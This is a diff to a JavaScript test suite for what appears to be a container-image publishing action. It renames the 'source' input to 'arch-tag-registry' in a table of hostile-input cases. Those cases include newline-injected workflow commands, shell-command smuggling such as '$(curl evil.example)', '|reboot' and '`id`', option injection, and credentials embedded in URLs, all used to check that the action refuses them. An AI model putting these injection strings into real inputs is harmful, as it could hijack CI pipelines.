@@ -85,7 +85,7 @@ describe('hostile inputs: refused before any registry request, and nothing steer
     ['aliases + newline + set-output', 'aliases', () => ({ aliases: `latest\n${cmd}` })],
     ['arches + newline + save-state', 'arches', () => ({ arches: `x86_64\n${save}` })],
     ['registries + newline + set-output', 'registries', h1 => ({ registries: `${h1}\n::set-output name=destinations::["evil"]` })],
-    ['source + newline + add-mask', 'source', h1 => ({ source: `${h1}\n${mask}${h1}` })],
+    ['arch-tag-registry + newline + add-mask', 'arch-tag-registry', h1 => ({ 'arch-tag-registry': `${h1}\n${mask}${h1}` })],
     ['arch-tag + newline + save-state', 'arch-tag', () => ({ 'arch-tag': `{tag}-{arch}\n${save}` })],
     [
       'missing-arch-policy + newline + set-output',
@@ -109,7 +109,7 @@ describe('hostile inputs: refused before any registry request, and nothing steer
     ['; in repo', 'repo', () => ({ repo: 'hello;id' })],
     ['backticks in registries', 'registries', () => ({ registries: '`id`' })],
     ['| in arch-tag', 'arch-tag', () => ({ 'arch-tag': '{tag}-{arch}|reboot' })],
-    ['$(curl) in source', 'source', () => ({ source: '$(curl evil.example)' })],
+    ['$(curl) in arch-tag-registry', 'arch-tag-registry', () => ({ 'arch-tag-registry': '$(curl evil.example)' })],
     // Unicode look-alikes and invisible characters
     ['fullwidth colon in tag', 'tag', () => ({ tag: '1\uff1alatest' })],
     ['right-to-left override in tag', 'tag', () => ({ tag: '1\u202etsetal' })],
@@ -140,21 +140,30 @@ describe('hostile inputs: refused before any registry request, and nothing steer
     ['--cert-dir in cert-dir', 'cert-dir', () => ({ 'cert-dir': '--cert-dir=/etc' })],
     // URLs with userinfo
     ['https://u:p@host in registries', 'registries', h1 => ({ registries: `https://bot:hunter2@${h1}` })],
-    ['u:p@host in source', 'source', h1 => ({ source: `bot:hunter2@${h1}/ns` })],
+    ['u:p@host in arch-tag-registry', 'arch-tag-registry', h1 => ({ 'arch-tag-registry': `bot:hunter2@${h1}/ns` })],
     // Inputs that would destroy data
     ['an alias equal to a per-arch tag', 'aliases', () => ({ aliases: '1-x86_64' })],
     ['a tag equal to a per-arch tag', 'tag', () => ({ tag: 'x86_64', 'arch-tag': '{arch}' })],
     ['the same registry twice', 'registries', (h1, h2) => ({ registries: `${h1} ${h2} ${h1}/` })],
     // The per-arch-tag guard compares places, not spellings: a capitalised host, Docker Hub's aliases.
     [
-      'a per-arch tag alias, source host capitalised',
+      'a per-arch tag alias, arch-tag-registry host capitalised',
       'aliases',
-      h1 => ({ registries: h1.replace('127.0.0.1', 'localhost'), source: h1.replace('127.0.0.1', 'LOCALHOST'), aliases: '1-x86_64' })
+      h1 => ({
+        registries: h1.replace('127.0.0.1', 'localhost'),
+        'arch-tag-registry': h1.replace('127.0.0.1', 'LOCALHOST'),
+        aliases: '1-x86_64'
+      })
     ],
     [
-      'a per-arch tag alias, source as index.docker.io',
+      'a per-arch tag alias, arch-tag-registry as index.docker.io',
       'aliases',
-      () => ({ registries: 'docker.io/hostile', source: 'index.docker.io/hostile', aliases: '1-x86_64' })
+      () => ({ registries: 'docker.io/hostile', 'arch-tag-registry': 'index.docker.io/hostile', aliases: '1-x86_64' })
+    ],
+    [
+      'a per-arch tag alias, registries a Docker Hub short name',
+      'aliases',
+      () => ({ registries: 'hostile', 'arch-tag-registry': 'index.docker.io/hostile', aliases: '1-x86_64' })
     ],
     // Credentials
     ['a password (with a command) but no username', 'username', () => ({ password: `pw\n${cmd}` })],
